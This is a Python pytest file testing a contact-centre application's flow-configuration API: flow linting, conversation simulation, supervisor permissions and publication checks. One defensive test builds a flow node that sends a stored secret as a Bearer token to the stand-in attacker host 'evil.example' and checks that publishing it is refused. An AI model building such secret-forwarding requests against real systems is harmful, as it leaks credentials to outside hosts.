"""Flows over HTTP: checked, tried out and tested as they stand on the screen; changed by those who run the floor."""

from collections.abc import AsyncIterator

import httpx2
import msgspec
import pytest
from fastapi import FastAPI

from atiende.actions.configuration import Ref, publish
from atiende.domain import documents as docs
from atiende.domain.flow_documents import Flow
from atiende.ports.desk import Desk
from atiende.ports.store import Change
from tests.browser.flow_centre import MENU, NODES
from tests.journeys.api.people import NORTH, Browser, signed_in

Json = dict[str, object]


@pytest.fixture
async def eva(app: FastAPI, desk: Desk) -> AsyncIterator[Browser]:
    """A supervisor of one brand."""
    async with signed_in(app, desk, NORTH, "eva") as browser:
        yield browser


def on_screen(**changed: object) -> Json:
    return {"slug": "welcome", "body": {**MENU, **changed}}


async def of_her_brand(eva: Browser) -> dict[str, object]:
    """The flow, for the brand she is granted and a queue of it."""
    brand = (await eva.get("/config/brand")).json()["items"][0]["slug"]
    queue = (await eva.get("/config/queue")).json()["items"][0]["slug"]
    nodes = {**NODES, "persona": {"type": "queue", "queue": queue}}
    return {**MENU, "brands": [brand], "nodes": nodes}


async def drafted(eva: Browser, body: object) -> httpx2.Response:
    address = "/api/v1/config/flow/welcome/draft"
    return await eva.http.put(address, json={"body": body}, headers={"If-None-Match": "*"})


async def test_the_checks_say_where_and_what_to_do(eva: Browser) -> None:
    nodes = {**NODES, "sola": {"type": "end"}}
    found = (await eva.post("/flows/lint", on_screen(nodes=nodes))).json()
    assert found["complete"] is True
    lost = [one for one in found["findings"] if one["node"] == "sola"]
    assert lost and all(one["text"] for one in lost)

    broken = (await eva.post("/flows/lint", on_screen(nodes={"menu": {"type": "nothing"}}))).json()
    assert broken["complete"] is False
    assert [(one["node"], one["field"], one["severity"]) for one in broken["findings"]] == [("menu", "type", "error")]


async def test_a_conversation_is_tried_out_and_becomes_a_test(eva: Browser) -> None:
    asked = on_screen() | {"at": "2026-11-23T10:30", "acts": [{"kind": "say", "text": "1"}], "name": "Horario"}
    tried = (await eva.post("/flows/simulate", asked)).json()
    assert [len(heard) for heard in tried["heard"]] == [1, 1]
    assert "Abrimos de nueve" in tried["heard"][1][0]["effects"][0]["text"]
    assert tried["outcome"] == "resolved"
    tested = (await eva.post("/flows/test", on_screen(tests=[tried["test"]]))).json()
    assert [one["passed"] for one in tested["results"]] == [True]
    assert tested["missed"] == ["persona"]

    nodes = {**NODES, "horario": {"type": "end", "text": {"es": "Cerrado."}}}
    failed = (await eva.post("/flows/test", on_screen(nodes=nodes, tests=[tried["test"]]))).json()
    assert failed["results"][0]["passed"] is False and failed["results"][0]["failures"][0]["text"]


async def test_as_text_and_back_it_is_the_same(eva: Browser) -> None:
    text = (await eva.post("/flows/write", on_screen())).json()["text"]
    body = (await eva.post("/flows/read", {"text": text})).json()["body"]
    again = (await eva.post("/flows/write", {"slug": "welcome", "body": body})).json()["text"]
    assert again == text
    refused = await eva.post("/flows/read", {"text": "name: [1"})
    assert refused.status_code == 422


async def test_a_supervisor_changes_flows_and_nothing_else(eva: Browser) -> None:
    queue = (await eva.get("/config/queue")).json()["items"][0]["slug"]
    kept = await drafted(eva, await of_her_brand(eva))
    assert kept.status_code == 200
    etag = kept.headers["etag"]
    published = await eva.post("/config/flow/welcome/publish", If_Match=etag)
    assert (published.status_code, published.json().get("version")) == (200, 1)
    assert [one["slug"] for one in (await eva.get("/flows")).json()["items"]] == ["welcome"]
    counts = (await eva.get("/flows/welcome/counts")).json()
    assert counts == {"version": 1, "live": 0, "nodes": {}}
    other = await eva.send("PUT", f"/config/queue/{queue}/draft", {"body": {}})
    assert other.status_code == 403


async def test_a_supervisor_sends_no_secret_anywhere_it_does_not_go_already(eva: Browser, desk: Desk) -> None:
    """Else whoever may change a menu could read every password of the centre at a host of his own."""
    plain = await of_her_brand(eva)

    def asking(url: str, **more: object) -> Json:
        headers = [{"name": "Authorization", "value": "Bearer ", "secret": "secret:shop"}]
        look = {"type": "request", "url": url, "headers": headers, "next": "menu", "failed": "persona"}
        nodes = plain["nodes"]
        assert isinstance(nodes, dict)
        return {**plain, "tests": [], "start": "look", "nodes": {**nodes, "look": look}, **more}

    kept = await drafted(eva, asking("https://evil.example/"))
    refused = await eva.post("/config/flow/welcome/publish", If_Match=kept.headers["etag"])
    assert (refused.status_code, refused.json()["code"]) == (403, "not_allowed")
    await in_force(desk, asking("https://shop.example/"))
    for url, name, expected in (
        ("https://shop.example/", "Otro nombre", 200),
        ("https://evil.example/", "Otro nombre", 403),
    ):
        kept = await changed(eva, asking(url, name=name))
        answer = await eva.post("/config/flow/welcome/publish", If_Match=kept.headers["etag"])
        assert answer.status_code == expected, answer.text


async def in_force(desk: Desk, body: Json) -> None:
    """By somebody who may."""

    def decide(change: Change) -> None:
        change.put(docs.Secret(name="shop", sealed=desk.keys.seal("s3cret"), at=change.at))
        change.drop(docs.DraftDocument, "flow", "welcome")
        publish(change, "system", Ref("flow", "welcome"), msgspec.convert(body, Flow))

    await desk.store.change(NORTH.tenant, decide, at=desk.clock.now())


async def changed(eva: Browser, body: Json) -> httpx2.Response:
    before = await eva.get("/config/flow/welcome")
    address = "/api/v1/config/flow/welcome/draft"
    return await eva.http.put(address, json={"body": body}, headers={"If-Match": before.headers["etag"]})


async def test_a_flow_with_an_error_or_a_failed_test_is_not_published(eva: Browser) -> None:
    body = await of_her_brand(eva)
    wrong = body | {"tests": [{"name": "Otra cosa", "turns": [{"hear": "1", "say": ["Nunca dicho"]}]}]}
    kept = await drafted(eva, wrong)
    refused = await eva.post("/config/flow/welcome/publish", If_Match=kept.headers["etag"])
    assert refused.status_code == 422
